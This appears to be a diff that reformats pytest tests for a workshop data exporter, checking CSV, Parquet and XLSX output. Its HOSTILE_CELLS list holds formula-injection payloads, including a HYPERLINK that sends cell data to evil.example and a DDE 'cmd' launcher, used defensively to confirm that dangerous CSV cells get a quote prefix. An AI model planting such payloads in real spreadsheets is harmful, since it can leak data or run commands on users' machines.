@@ -44,8 +44,12 @@ def test_csv_parquet_and_xlsx_open_and_match_the_summary(store, session, tmp_pat
     parquet = exports.export_tables(store, session.workshop.id, "parquet", tmp_path / "parquet", 3)
     (xlsx,) = exports.export_tables(store, session.workshop.id, "xlsx", tmp_path / "xlsx", 3)
     assert {p.stem for p in csv} == {p.stem for p in parquet} == set(openpyxl.load_workbook(xlsx).sheetnames)
-    for name, count in [("participants", summary["participants"]), ("dots", summary["dots_total"]),
-                        ("statements", summary["statements"]), ("follow_ups", 1)]:  # fmt: skip
+    for name, count in [
+        ("participants", summary["participants"]),
+        ("dots", summary["dots_total"]),
+        ("statements", summary["statements"]),
+        ("follow_ups", 1),
+    ]:
         assert len(pd.read_csv(tmp_path / "csv" / f"{name}.csv")) == count
         assert (
             duckdb.sql(f"SELECT count(*) FROM '{tmp_path / 'parquet' / name}.parquet'").fetchall()[0][0]
@@ -105,8 +109,15 @@ def test_report_and_export_from_the_command_line(tmp_path: Path):
     assert wrong.returncode == 2 and "--out must end in .html or .md." in wrong.stderr
 
 
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+cmd|' /C calc'!A0",
-                 "@SUM(1,1)", "-2+3", "\tTab first", "\rReturn first"]  # fmt: skip
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=1+2",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "-2+3",
+    "\tTab first",
+    "\rReturn first",
+]
 
 
 @pytest.fixture
@@ -152,6 +163,9 @@ def test_csv_cells_that_a_spreadsheet_would_evaluate_begin_with_a_quote(store, p
     needs = pd.read_csv(tmp_path / "csv" / "needs.csv")
     assert "'=1+2" in needs["text"].tolist() and "'@SUM(1,1)" in needs["text"].tolist()
     assert needs["id"].dtype.kind == "i" and needs["theme_id"].dtype.kind == "i"
-    (parquet,) = [p for p in exports.export_tables(store, planted.workshop.id, "parquet", tmp_path / "pq", 3)
-                  if p.stem == "needs"]  # fmt: skip
+    (parquet,) = [
+        p
+        for p in exports.export_tables(store, planted.workshop.id, "parquet", tmp_path / "pq", 3)
+        if p.stem == "needs"
+    ]
     assert "=1+2" in pd.read_parquet(parquet)["text"].tolist()  # Parquet keeps the exact text
